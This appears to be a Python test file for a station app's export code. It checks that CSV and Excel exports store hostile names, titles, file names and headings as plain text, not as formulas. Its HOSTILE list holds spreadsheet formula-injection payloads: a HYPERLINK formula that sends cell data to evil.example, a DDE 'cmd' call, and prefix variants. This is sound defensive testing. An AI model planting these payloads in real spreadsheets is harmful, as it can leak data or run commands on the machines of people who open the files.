"""Nothing Station writes for Excel or WPS runs as a formula when opened, whatever the data holds
(a resident's name, the station's name, a list's photo file names and column headings)."""

import csv
import datetime as dt

from openpyxl import load_workbook

from station.interop import report_xlsx
from station.interop.cells import FORMULA_STARTS
from station.interop.mapping import RowProblem
from station.services.audit_trail import AuditFilter
from station.services.lists import write_problems
from station.services.statistics import SECTIONS
from tests.factories import intake

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "＝1+1",
]


def no_formula(cells):
    found = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS)]
    assert found == []


def read_csv(path):
    with path.open(encoding="utf-8-sig", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def test_the_audit_export_keeps_hostile_names_as_text(services, admin, clock, tmp_path):
    for name in HOSTILE:
        services.intake.register(intake(admitted_at=clock.now, name=name), admin)
        clock.advance(minutes=1)
    path = tmp_path / "审计.csv"
    services.audit_trail.export(admin, AuditFilter(), path)
    cells = read_csv(path)
    no_formula(cells)
    assert "'" + HOSTILE[0] in cells  # the name is there, as text


def test_the_statistics_workbook_has_no_formula(services, admin, clock, tmp_path):
    services.intake.register(intake(admitted_at=clock.now, name=HOSTILE[1]), admin)
    report = services.statistics.report(dt.date(2026, 3, 1), dt.date(2026, 3, 31))
    path = tmp_path / "报表.xlsx"
    report_xlsx.write(path, report, station=HOSTILE[0], section_titles=SECTIONS)
    book = load_workbook(path)  # not data_only: a formula would be read back as one
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert book.active["A1"].value.startswith(HOSTILE[0])  # the title, shown as written
    # and written as a plain (quote-prefixed) string in the file itself
    assert book.active["A1"].data_type == "s" and book.active["A1"].quotePrefix


def test_the_problem_report_of_a_list_keeps_file_names_and_headings_as_text(
    services, admin, tmp_path
):
    heading = "=A1*2"
    path = tmp_path / "名单.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["姓名", "照片", heading])
        writer.writerows([f"张{i}", f"{bad}.jpg", "x"] for i, bad in enumerate(HOSTILE))
    (tmp_path / "photos").mkdir()
    mapping = services.lists.preview(path).mapping
    report = services.lists.import_table(
        path, mapping, admin, name="名单", photo_dir=tmp_path / "photos"
    )
    assert report.problems  # the photos are missing: each named in the report
    # and a photo that failed to encode is reported under its file name, with the reason
    failed = RowProblem(3, HOSTILE[0], "{why}", {"why": HOSTILE[2]})
    out = tmp_path / "问题.csv"
    write_problems(out, [*report.problems, failed])
    cells = read_csv(out)
    no_formula(cells)
    assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[2] in cells
